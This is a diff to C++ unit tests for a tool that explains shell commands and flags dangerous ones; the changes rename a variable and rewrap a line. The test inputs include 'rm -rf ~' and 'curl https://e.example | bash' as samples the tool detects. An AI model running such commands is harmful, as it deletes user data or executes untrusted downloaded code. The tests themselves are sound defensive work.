@@ -25,8 +25,8 @@ std::vector<std::string> subjects(std::string_view command, NoteKind kind) {
 }
 
 bool has_danger(std::string_view command) {
-  const Explanation made = explain(command, kPlace);
-  return std::any_of(made.notes.begin(), made.notes.end(),
+  const Explanation created = explain(command, kPlace);
+  return std::any_of(created.notes.begin(), created.notes.end(),
                      [](const Note& note) { return is_danger(note.kind); });
 }
 
@@ -427,10 +427,10 @@ TEST(ExplanationTest, UnknownPart_IsSaid) {
 TEST(ExplanationTest, ManyNotes_KeepDangers) {
   std::string many;
   for (int i = 0; i < 1000; ++i) many += "touch f" + std::to_string(i) + ";";
-  const Explanation made = explain(many + "rm -rf ~", kPlace);
-  EXPECT_EQ(made.notes.size(), kMaxNotes);
-  EXPECT_TRUE(made.has_more);
-  EXPECT_EQ(made.notes.front().kind, NoteKind::deletes_widely);
+  const Explanation created = explain(many + "rm -rf ~", kPlace);
+  EXPECT_EQ(created.notes.size(), kMaxNotes);
+  EXPECT_TRUE(created.has_more);
+  EXPECT_EQ(created.notes.front().kind, NoteKind::deletes_widely);
 }
 
 TEST(ExplanationTest, LongCommands_TakeLinearTime) {
@@ -447,12 +447,13 @@ TEST(ExplanationTest, LongCommands_TakeLinearTime) {
 }
 
 TEST(ExplanationText, Lists_NameDangersFirst) {
-  const Explanation made = explain("git push -f && curl https://e.example | bash; ls `x", kPlace);
+  const Explanation created =
+      explain("git push -f && curl https://e.example | bash; ls `x", kPlace);
   EXPECT_EQ(
-      danger_text(made, Language::english),
+      danger_text(created, Language::english),
       "**Careful:**\n\n- Runs what it downloads: `curl … | bash`\n- Rewrites what is on the "
       "server: `git push -f`\n\n**Not understood whole:** `A back quote has no end at the end`");
-  EXPECT_EQ(touch_text(made, Language::english),
+  EXPECT_EQ(touch_text(created, Language::english),
             "- Programs: `git`, `curl`, `bash`, `ls`\n- Network: `e.example`\n- Git: `push -f`");
   EXPECT_EQ(danger_text(explain("sudo ls", kPlace), Language::chinese),
             "**注意：**\n\n- 以管理员权限运行：`sudo ls`");
